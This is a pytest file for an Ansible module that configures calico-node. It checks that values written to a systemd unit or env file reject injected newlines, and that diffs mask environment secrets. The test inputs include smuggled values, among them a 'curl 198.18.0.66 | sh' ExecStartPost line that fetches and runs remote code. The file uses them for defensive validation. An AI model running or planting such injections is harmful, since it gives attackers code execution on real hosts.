"""calico_node never lets a value break out of its line in calico.env or calico-node.service, and
its --diff of calico.env hides the values given in env."""

from __future__ import annotations

import json

import pytest

from ansible_collections.netops.calico.plugins.module_utils._node import options as node_options
from fakes import params
from test_calico_node_execute import host, run  # noqa: F401  # pylint: disable=unused-import
from fakes import MemoryDatastore

IMAGE_INJECTION = "quay.io/calico/node:v3.31.7\nExecStartPost=/bin/sh -c 'curl 198.18.0.66 | sh'"


@pytest.mark.parametrize("kw, option", [
    ({"image": IMAGE_INJECTION}, "image"),
    ({"image": "quay.io/calico/node:v3.31.7 --privileged"}, "image"),
    ({"image": "quay.io/calico/node:v3.31.7\r"}, "image"),
    ({"image": ""}, "image"),
    ({"env": {"FELIX_LOGSEVERITYSCREEN": "info\nETCD_ENDPOINTS=http://198.18.0.66:2379"}}, "env"),
    ({"env": {"FELIX_LOGSEVERITYSCREEN": "info\x00"}}, "env"),
    ({"etcd_key_file": "/etc/calico/key.pem\nExecStartPost=/bin/true"}, "etcd_key_file"),
    ({"etcd_ca_cert_file": "/etc/calico/my ca.pem"}, "etcd_ca_cert_file"),
    ({"etcd_cert_file": "/etc/calico/cert:x.pem"}, "etcd_cert_file"),
    ({"etcd_endpoints": "https://198.18.0.1:2379\nFELIX_X=1"}, "etcd_endpoints"),
])
def test_values_written_to_the_unit_or_env_refuse_control_characters(kw, option):
    errors = node_options.validate(params(**kw))
    assert any(e.startswith(f"{option}:") for e in errors), errors


@pytest.mark.parametrize("image", ["quay.io/calico/node:v3.31.7", "calico/node", "registry.example.com:5000/mirror/calico/node:v3.31.7-1",
                                   "quay.io/calico/node@sha256:" + "0123456789abcdef" * 4])
def test_image_references_are_accepted(image):
    assert node_options.validate(params(image=image)) == []


def test_env_values_are_masked_in_the_diff(host):  # noqa: F811
    ds = MemoryDatastore()
    res = run(host, ds, env={"FELIX_PROMETHEUSMETRICSENABLED": "true", "CALICO_TOKEN": "hunter2-secret"})
    assert res["changed"]
    assert "CALICO_TOKEN=hunter2-secret\n" in host.file("/etc/calico/calico.env")      # the file has it
    env_diff = [d for d in res["diffs"] if d["after_header"] == "/etc/calico/calico.env"][0]
    assert "hunter2" not in json.dumps(res["diffs"])
    assert "CALICO_TOKEN=VALUE_HIDDEN\n" in env_diff["after"]
    assert "FELIX_PROMETHEUSMETRICSENABLED=VALUE_HIDDEN\n" in env_diff["after"]
    assert "CALICO_NODENAME=node-1\n" in env_diff["after"]          # the module's own values stay visible

    res = run(host, ds, env={"FELIX_PROMETHEUSMETRICSENABLED": "true", "CALICO_TOKEN": "hunter3-secret"})
    env_diff = [d for d in res["diffs"] if d["after_header"] == "/etc/calico/calico.env"][0]
    assert "hunter" not in json.dumps(res["diffs"])
    assert "CALICO_TOKEN=VALUE_HIDDEN\n" in env_diff["before"]
    assert "CALICO_TOKEN=VALUE_HIDDEN (changed)\n" in env_diff["after"]
    assert "FELIX_PROMETHEUSMETRICSENABLED=VALUE_HIDDEN\n" in env_diff["after"]   # unchanged: no mark
    assert env_diff["before"] != env_diff["after"]
